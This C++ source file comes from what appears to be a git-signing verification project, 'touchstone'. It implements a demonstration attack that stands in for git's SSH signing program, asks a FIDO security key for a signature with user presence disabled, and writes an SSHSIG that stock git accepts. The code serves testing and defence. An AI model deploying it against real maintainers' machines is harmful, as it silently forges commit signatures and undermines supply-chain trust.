// SPDX-License-Identifier: Apache-2.0
// What malware on a maintainer's computer does: it asks the token for a signature without a touch
// (CTAP 2.1 section 6.2, option up=false) and writes the SSHSIG that git wants. Called as
// gpg.ssh.program: -Y sign -n git -f PRIVATE_KEY_FILE BUFFER. Stock git calls the result good; the
// tests and the demo show that touchstone verify does not.
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include <fido.h>

#include "base/file.h"
#include "base/secret.h"
#include "ssh/limits.h"
#include "ssh/private_key_file.h"
#include "ssh/sshsig.h"

namespace touchstone::attacks {
namespace {

struct FidoFree {
  void operator()(fido_dev_info_t* list) const { fido_dev_info_free(&list, 1); }
  void operator()(fido_assert_t* assertion) const { fido_assert_free(&assertion); }
  void operator()(fido_dev_t* device) const {
    fido_dev_close(device);
    fido_dev_free(&device);
  }
};
template <class T>
using Fido = std::unique_ptr<T, FidoFree>;

constexpr std::size_t kObjectMax = 16 * 1024 * 1024;

base::Status checked(int fido_error, const char* what) {
  if (fido_error != FIDO_OK) {
    return base::fail(base::Code::kTokenFailed, std::string(what) + ": " + fido_strerr(fido_error),
                      fido_error);
  }
  return {};
}

base::Result<Fido<fido_dev_t>> open_first_token() {
  Fido<fido_dev_info_t> list(fido_dev_info_new(1));
  std::size_t count = 0;
  TRY_VOID(checked(fido_dev_info_manifest(list.get(), 1, &count), "listing tokens"));
  if (count == 0) {
    return base::fail(base::Code::kNoToken);
  }
  Fido<fido_dev_t> device(fido_dev_new());
  TRY_VOID(
      checked(fido_dev_open(device.get(), fido_dev_info_path(fido_dev_info_ptr(list.get(), 0))),
              "opening"));
  return device;
}

base::Result<base::TokenSignature> assert_without_touch(fido_dev_t* device,
                                                        const ssh::SkPrivateKey& key,
                                                        base::ByteView data) {
  Fido<fido_assert_t> assertion(fido_assert_new());
  fido_assert_t* const raw = assertion.get();
  TRY_VOID(checked(fido_assert_set_clientdata(raw, data.data(), data.size()), "client data"));
  TRY_VOID(checked(fido_assert_set_rp(raw, key.key.application()->c_str()), "application"));
  TRY_VOID(
      checked(fido_assert_allow_cred(raw, key.key_handle.data(), key.key_handle.size()), "handle"));
  TRY_VOID(checked(fido_assert_set_up(raw, FIDO_OPT_FALSE), "up=false"));
  TRY_VOID(checked(fido_dev_get_assert(device, raw, nullptr), "asking without a touch"));
  base::TokenSignature signature;
  signature.signature.assign(fido_assert_sig_ptr(raw, 0),
                             fido_assert_sig_ptr(raw, 0) + fido_assert_sig_len(raw, 0));
  signature.flags = fido_assert_flags(raw, 0);
  signature.counter = fido_assert_sigcount(raw, 0);
  return signature;
}

base::Status sign(const std::filesystem::path& key_file, const std::filesystem::path& buffer) {
  TRY(file, base::read_file(key_file, ssh::kPrivateKeyFileMax));
  TRY(key, ssh::parse_private_key_file(
               file, [] { return base::fail(base::Code::kWrongPassphrase, "encrypted"); }));
  TRY(object, base::read_file(buffer, kObjectMax));
  const ssh::SshSigData data = ssh::SshSigData::of_message("git", ssh::SshSigHash::kSha512, object);
  TRY(device, open_first_token());
  TRY(given, assert_without_touch(device.get(), key, data.encode()));
  TRY(signature, ssh::Signature::from_token(key.key, given));
  const ssh::SshSig sshsig{key.key, data.name_space, data.hash, signature};
  return base::write_file_atomically(buffer.string() + ".sig", base::as_bytes(sshsig.armored()),
                                     0600);
}

}  // namespace
}  // namespace touchstone::attacks

int main(int argc, char** argv) {
  using namespace touchstone;
  std::filesystem::path key_file;
  const std::vector<std::string> words(argv + 1, argv + argc);
  for (std::size_t i = 0; i + 1 < words.size(); ++i) {
    if (words[i] == "-f") {
      key_file = words[i + 1];
    }
  }
  fido_init(0);
  base::Status done = base::init_secure_heap();
  if (done) {
    done = words.empty() || key_file.empty() ? base::Status(base::fail(base::Code::kUsage))
                                             : attacks::sign(key_file, words.back());
  }
  if (!done) {
    std::fputs(base::format_error(done.error()).c_str(), stderr);
    return EXIT_FAILURE;
  }
  return EXIT_SUCCESS;
}
